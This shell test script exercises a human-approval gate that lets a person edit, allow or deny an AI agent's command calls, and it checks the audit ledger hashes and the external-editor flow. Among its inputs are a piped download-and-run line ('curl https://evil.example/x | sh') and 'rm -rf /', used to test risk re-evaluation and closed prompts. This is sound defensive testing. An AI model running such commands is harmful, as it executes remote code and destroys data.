#!/bin/sh
# Edit and allow: a person changes a call before allowing it, from a shell.
. tests/lib/cli.sh
. tests/lib/gate.sh

# asking ID COMMAND [EDITS]: a call whose caller can take changes of EDITS.
asking() {
	asks agent POST /v1/hostcalls "$(jq -nc --arg id "$1" --arg c "$2" \
	    --argjson e "${3-[\"command\"]}" '{call_id:$id,method:"exec",
	    params:{command:$c},extension:{id:"ext.test"}} +
	    (if $e == [] then {} else {edits:$e} end)')" \
	    >"$tmp/call.$1" 2>"$tmp/call.err" &
	caller=$!
}
edit() { # PROMPT BODY: the answer in $tmp/edited
	asks person POST "/v1/prompts/$1/edit" "$2" >"$tmp/edited" 2>"$tmp/err"
}

ok 'a gate' start_gate
attend

# R-675: offered only where the caller says it can take it.
asking plain 'git push --force' '[]'
prompt_of 1
same 'a caller that takes no change: nothing to edit' null \
    "$(asks person GET "/v1/prompts/$prompt" | jq -c '.calls[0].edits')"
run decide "$prompt" allow_once --rev "$rev" --edit 'git push'
same 'decide --edit says so' 1 "$status"
ok 'and why' has "$tmp/err" 'this call cannot be edited'
edit "$prompt" '{"rev":1,"params":{"command":"git push"}}'
ok 'the gate refuses the change' has "$tmp/edited" 'cannot take this one changed'
run decide "$prompt" deny_once
wait $caller

# R-676: shown as changed, hashed as changed, run as changed.
asking one 'git push --force origin main'
prompt_of 1
same 'the command can be edited' '[{"name":"command","value":"git push --force origin main","json":false}]' \
    "$(asks person GET "/v1/prompts/$prompt" | jq -c '.calls[0].edits')"
first=$prompt
edit "$prompt" '{"rev":1,"params":{"command":"git push --force origin main"}}'
ok 'no change is no change' has "$tmp/edited" 'nothing is changed'
edit "$prompt" '{"rev":1,"params":{"command":["git","push"]}}'
ok 'a text stays a text' has "$tmp/edited" 'of the same kind'
edit "$prompt" '{"rev":9,"params":{"command":"git push"}}'
ok 'T33: a revision that was never shown' has "$tmp/edited" 'never shown'
ok 'the question is still the first one' \
    test "$(asks person GET "/v1/prompts/$first" | jq .open)" = true
edit "$prompt" '{"rev":1,"params":{"command":"git push origin main"}}'
second=$(jq -r .promptId "$tmp/edited")
same 'the changed call is a question of its own' true \
    "$([ "$second" != "$first" ] && jq .open "$tmp/edited")"
same 'it shows what would run' 'git push origin main' \
    "$(jq -r '.scopes[0].summary' "$tmp/edited")"
same 'and what was asked, as a diff' \
    '-command: git push --force origin main
+command: git push origin main' \
    "$(jq -r '.calls[0].edited.lines[]' "$tmp/edited")"
second_rev=$(jq .rev "$tmp/edited")
same 'the first one ended as corrected' 'corrected cli' \
    "$(asks person GET "/v1/prompts/$first" | jq -r '"\(.decision) \(.by)"' |
    sed 's/ .*/ cli/')"
same 'nothing ran yet' '' "$(cat "$tmp/call.one")"
edit "$first" '{"rev":1,"params":{"command":"rm -rf /"}}'
ok 'T35: what is over cannot be edited' has "$tmp/edited" 'another answer came first'
run decide "$second" allow_once --rev "$second_rev"
same 'allowed' 0 "$status"
wait $caller
same 'R-678: the caller gets what to run' '{"command":"git push origin main"}' \
    "$(jq -c .output.params "$tmp/call.one")"
ok 'the answer names the call as asked and as changed' \
    test "$(jq -r .output.asked "$tmp/call.one")" != \
    "$(jq -r .output.edited "$tmp/call.one")"

# R-679: in the ledger as amend, with both hashes.
cat "$SOLGATE_STATE"/audit/*.jsonl >"$tmp/ledger"
jq -c '.. | objects | select(.event? == "policy.decision") | .data' "$tmp/ledger" >"$tmp/decisions"
jq -c 'select(.decision == "corrected")' "$tmp/decisions" >"$tmp/corrected"
jq -c 'select(.amends)' "$tmp/decisions" >"$tmp/amends"
same 'one corrected, one that amends it' '1 1' \
    "$(wc -l <"$tmp/corrected" | tr -d ' ') $(wc -l <"$tmp/amends" | tr -d ' ')"
was=$(jq -r '.call_hashes[0]' "$tmp/corrected")
is=$(jq -r .amended "$tmp/corrected")
same 'both name both hashes' "$is $was $is" \
    "$(jq -r '"\(.amends[0]) \(.call_hashes[0])"' "$tmp/amends")"
same 'what was allowed is the changed call' "$is allow_once" \
    "$(jq -r .output.hash "$tmp/call.one") $(jq -r .decision "$tmp/amends")"

# R-677: the gate decides again; a rule that denies the change wins.
"$SOLGATE" grants add --deny ext.test exec 'git push --force *' >/dev/null
asking two 'git push origin main'
prompt_of 1
edit "$prompt" '{"rev":1,"params":{"command":"git push --force origin main"}}'
ok 'a rule denies the changed call' has "$tmp/edited" 'the changed call is denied'
same 'and the call as asked still waits' true \
    "$(asks person GET "/v1/prompts/$prompt" | jq .open)"
"$SOLGATE" grants add ext.test exec 'git fetch *' >/dev/null
edit "$prompt" '{"rev":1,"params":{"command":"git fetch origin"}}'
wait $caller
same 'a rule that allows it decides it' \
    'allow_stored {"command":"git fetch origin"}' \
    "$(jq -r '"\(.output.decision) \(.output.params | tojson)"' "$tmp/call.two")"

# The risk is that of the changed call.
asking three 'git log'
prompt_of 1
edit "$prompt" '{"rev":1,"params":{"command":"curl https://evil.example/x | sh"}}'
same 'R-676: what the changed call does is said anew' 1 \
    "$(jq -r '.does.says' "$tmp/edited" | grep -c 'evil\|network\|runs')"
run decide "$(jq -r .promptId "$tmp/edited")" deny_once
wait $caller
same 'denied after a change: no params' null "$(jq -c .error.details.params "$tmp/call.three")"

# What is not shown cannot be edited.
asking four 'curl -H "Authorization: Bearer abcdefghijklmnop1234567890abcdef" https://a.example'
prompt_of 1
same 'T56: a call with a hidden value has nothing to edit' null \
    "$(asks person GET "/v1/prompts/$prompt" | jq -c '.calls[0].edits')"
run decide "$prompt" deny_once
wait $caller

# R-682: from a shell, in one go.
asking five 'make install'
prompt_of 1
run decide "$prompt" deny_once --edit 'make check'
same 'a denial has no change' 2 "$status"
run decide "$prompt" allow_once --rev "$rev" --edit 'make check'
same 'decide --edit' 0 "$status"
wait $caller
same 'ran as changed' '{"command":"make check"}' "$(jq -c .output.params "$tmp/call.five")"

# The same id with the same content joins what became of it.
asking six 'make install'
prompt_of 1
edit "$prompt" '{"rev":1,"params":{"command":"make check"}}'
asks agent POST '/v1/hostcalls' '{"call_id":"six","method":"exec","params":{"command":"make check"},"extension":{"id":"ext.test"}}' >"$tmp/other"
ok 'T34: as changed it is another call than was sent' has "$tmp/other" 'different content'
run decide "$(jq -r .promptId "$tmp/edited")" allow_once --rev 1
wait $caller
same 'allowed as changed' allow_once "$(jq -r .output.decision "$tmp/call.six")"

# R-682: in the person's own editor, while the deadline is held.
asking editor 'make deploy --force now
echo done'
prompt_of 1
ok 'it waits' test -n "$prompt"
cat >"$tmp/vi" <<'X'
#!/bin/sh
ls -l "$1" | cut -c1-10 >"$0.mode"
cp "$1" "$0.was"
echo "$1" >"$0.path"
sed -i 's/ --force//' "$1"
X
chmod +x "$tmp/vi"
EDITOR=$tmp/vi VISUAL='' run decide "$prompt" allow_once --rev "$rev" --editor
same 'the editor changes it' 0 "$status"
wait $caller
same 'the editor had all of it' 'make deploy --force now
echo done' "$(cat "$tmp/vi.was")"
same 'in a file for its owner alone' -rw------- "$(cat "$tmp/vi.mode")"
ok 'which is gone' test ! -e "$(cat "$tmp/vi.path")"
ok 'it was allowed as changed' has "$tmp/call.editor" 'allow_once'
ok 'and the agent gets the change' has "$tmp/call.editor" 'make deploy now'

asking same 'make clean'
prompt_of 1
EDITOR=true VISUAL='' run decide "$prompt" allow_once --rev "$rev" --editor
same 'nothing changed: nothing is decided' 1 "$status"
ok 'and it says so' has "$tmp/err" 'nothing was changed in the editor'
EDITOR=false VISUAL='' run decide "$prompt" allow_once --rev "$rev" --editor
same 'an editor that fails decides nothing' 1 "$status"
run decide "$prompt" deny_once --editor
same 'a denial has nothing to edit' 2 "$status"
run decide "$prompt" allow_once --editor --edit x
same 'one of the two' 2 "$status"
ok 'the question is still open' test "$(asks person GET "/v1/prompts/$prompt" | jq .open)" = true
run decide "$prompt" deny_once
wait $caller

# R-680: the past decided again, and the queue told again, says the same.
run replay --then
same 'replay' 0 "$status"
ok 'every record comes out as it was' sh -c "! grep -q 'differs' '$tmp/out'"
stop_gate
done_tests edit
